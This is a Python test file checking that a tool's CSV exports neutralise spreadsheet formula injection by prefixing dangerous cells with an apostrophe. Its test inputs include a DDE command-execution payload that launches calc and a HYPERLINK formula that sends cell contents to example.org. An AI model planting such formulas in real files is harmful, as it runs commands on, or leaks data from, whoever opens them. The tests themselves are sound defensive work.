"""CSV that people open in a spreadsheet: no cell of it is computed, and raw CSV has every cell as it is."""

import csv
import io

import pytest
from alliance_graph.tables.flat import line

from tests.support.running import Alliance

pytest_plugins = ["tests.support.running"]

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("- so he said", "'- so he said"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("-12", "-12"),
        ("+3", "+3"),
        ("-1,234.5", "-1,234.5"),
        ("-5%", "-5%"),
        ("2022-02-24", "2022-02-24"),
        ("[2022-02-16..2022-02-19]", "[2022-02-16..2022-02-19]"),
        ("a=b", "a=b"),
        ("'tis", "'tis"),
        ("", ""),
    ],
)
def test_a_cell_that_would_be_computed_begins_with_an_apostrophe(cell: str, written: str) -> None:
    assert next(csv.reader(io.StringIO(line([cell, "x"])))) == [written, "x"]
    assert next(csv.reader(io.StringIO(line([cell, "x"], raw=True)))) == [cell, "x"]


@pytest.mark.parametrize("question", [("said", "--format"), ("show", "x", "--format"), ("export", "-o", "-")])
def test_answers_and_exports_are_disarmed_unless_they_are_raw(alliance: Alliance, question: tuple[str, ...]) -> None:
    text = (
        f"people:\n  - {{id: p, name: P}}\nstatements:\n  - id: x\n    speaker: p\n    said: 2022\n    summary: '{FORMULA}'\n"
    )
    (alliance.home / "it.yaml").write_text(text)
    for kind, expected in (("csv", f"'{FORMULA}"), ("csv-raw", FORMULA)):
        done = alliance(*question, kind, "--data", "it.yaml")
        assert done.code == 0
        assert {row["summary"] for row in csv.DictReader(io.StringIO(done.out)) if row.get("id") == "x"} == {expected}
